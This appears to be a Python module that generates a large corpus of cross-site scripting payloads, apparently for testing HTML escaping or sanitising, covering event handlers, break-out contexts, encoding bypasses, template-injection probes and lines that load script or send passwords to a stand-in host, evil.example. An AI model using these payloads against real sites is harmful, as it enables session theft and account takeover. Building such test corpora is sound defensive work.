"""Markup that runs where it is not written as text: elements × handlers × ways to write them × places to break out of.

Each payload bears the attribute `x11` on what it makes, and calls `owned()`: either gives away that it was taken as
markup.
"""

from __future__ import annotations

import itertools
from dataclasses import dataclass

JS = "owned()"
HANDLERS = ("onerror", "onload", "onfocus", "ontoggle", "onpointerover", "onanimationstart")
WITH_HANDLER = (
    "<img{_}x11{_}src=x:{_}{on}={js}>",
    "<svg{_}x11{_}{on}={js}>",
    "<details{_}x11{_}open{_}{on}={js}>x</details>",
    "<input{_}x11{_}autofocus{_}{on}={js}>",
    "<video{_}x11{_}src=x:{_}{on}={js}></video>",
    "<p{_}x11{_}tabindex=0{_}autofocus{_}{on}={js}>",
)
WITHOUT_HANDLER = (
    "<script{_}x11>{js}</script>",
    "<script{_}x11{_}src=//evil.example/x.js></script>",
    '<iframe{_}x11{_}srcdoc="<script>top.{js}</script>"></iframe>',
    '<object{_}x11{_}data="javascript:{js}"></object>',
    '<embed{_}x11{_}src="javascript:{js}">',
    '<link{_}x11{_}rel=stylesheet{_}href="//evil.example/x.css">',
    "<style{_}x11>@import '//evil.example/y.css';</style>",
    '<form{_}x11{_}action="//evil.example"><input name=password></form>',
    '<base{_}x11{_}href="//evil.example/">',
    '<meta{_}x11{_}http-equiv=refresh{_}content="0;url=//evil.example">',
    '<a{_}x11{_}href="javascript:{js}">x</a>',
    '<a{_}x11{_}href="java&#9;script:{js}">x</a>',
    '<math><mi{_}x11{_}xlink:href="javascript:{js}"></math>',
    '<b{_}x11{_}hx-get="//evil.example"{_}hx-trigger=load></b>',
    '<b{_}x11{_}data-hx-post="/accounts/logout/"{_}data-hx-trigger=load></b>',
    "<svg><script{_}x11>{js}</script></svg>",
    "<svg><animate{_}x11{_}onbegin={js} attributeName=x></svg>",
    '<button{_}x11{_}formaction="javascript:{js}">x</button>',
)
# What stands between the words of a tag: a space, or what a parser takes for one.
GAPS = (" ", "/", "\n", "\t", " \x0c", "  ")
# The place in a page, and what gets out of it.
OUT = {
    "<p>{}</p>": "",
    '<p title="{}">': '">',
    "<p title='{}'>": "'>",
    "<p title={}>": "x>",
    "<textarea>{}</textarea>": "</textarea>",
    "<title>{}</title>": "</title>",
    "<!-- {} -->": "-->",
    "<style>{}</style>": "</style>",
    "<script>var x = '{}'</script>": "'</script>",
    "<noscript>{}</noscript>": "</noscript>",
    "<select><option>{}</option></select>": "</option></select>",
    "<iframe>{}</iframe>": "</iframe>",
}


@dataclass(frozen=True, slots=True)
class Payload:
    """What is typed, and a page that takes it as markup, in which it can be seen to work."""

    text: str
    page: str

    @property
    def trusted(self) -> str:
        return self.page.replace("{}", self.text)


def _payloads() -> tuple[Payload, ...]:
    made = []
    gaps = itertools.cycle(GAPS)
    tags = [(shape, on) for shape in WITH_HANDLER for on in HANDLERS] + [
        (each, "") for each in WITHOUT_HANDLER
    ]
    for (page, out), (shape, on) in itertools.product(OUT.items(), tags):
        gap = next(gaps)
        # Where a slash ends an unquoted value, it would be part of it.
        gap = " " if gap == "/" and ("=" in shape.replace("{on}=", "", 1).replace("={js}", "", 1)) else gap
        tag = shape.replace("{_}", gap).replace("{on}", on).replace("{js}", JS)
        made.append(Payload(out + tag, page))
    # Handlers on an element that is there already.
    for on, quote in itertools.product(HANDLERS, ('"', "'", "")):
        made.append(
            Payload(
                f"x{quote} x11 tabindex=0 autofocus {on}={JS} y={quote}", f"<input value={quote}{{}}{quote}>"
            )
        )
    # The same tags in capitals, which names of elements and attributes do not mind.
    for shape, on in tags[::3]:
        tag = shape.replace("{_}", " ").replace("{on}", on.upper()).replace("{js}", JS)
        made.append(
            Payload(
                tag.replace("<img", "<ImG").replace("<svg", "<SvG").replace("<script", "<sCrIpT"), "<p>{}</p>"
            )
        )
    return tuple({each.text: each for each in made}.values())


PAYLOADS = _payloads()

# What becomes markup only for somebody who decodes once too often.
ENCODED = tuple(
    encode(each.text)
    for each in PAYLOADS[::40]
    for encode in (
        lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
        lambda text: text.replace("<", "&#60;").replace(">", "&#x3e;"),
        lambda text: text.replace("<", "%3C").replace(">", "%3E"),
        lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
        lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
        lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    )
)
# What is no markup, and leads somewhere or is a language of ours.
OTHERS = (
    "javascript:owned()//http://",
    "javascript://https://support.example/%0aowned()",
    'https://support.example/"onpointerover=owned() x11 y="',
    "https://support.example/'><img x11 src=x: onerror=owned()>",
    "https://support.example/&quot;x11 onclick=owned()",
    "data:text/html,<script>owned()</script>",
    "[x](javascript:owned())",
    "![x](https://evil.example/x.png)",
    "{{ 7*7 }}{% csrf_token %}{% debug %}",
    "%(name)s %s %n {0.__class__} ${7*7}",
    "</script><!--<script>",
    "]]>\"'><svg x11 onload=owned()>",
    "\u202e<tpircs>",
)
EVERYTHING = (*(each.text for each in PAYLOADS), *ENCODED, *OTHERS)


def packed(most: int, texts: tuple[str, ...] = EVERYTHING) -> list[str]:
    """All texts in as few lines of at most `most` characters as the order allows."""
    lines, line = [], ""
    for text in texts:
        if len(text) > most:
            continue
        if line and len(line) + len(text) + 1 > most:
            lines.append(line)
            line = ""
        line = f"{line} {text}" if line else text
    return [*lines, line]
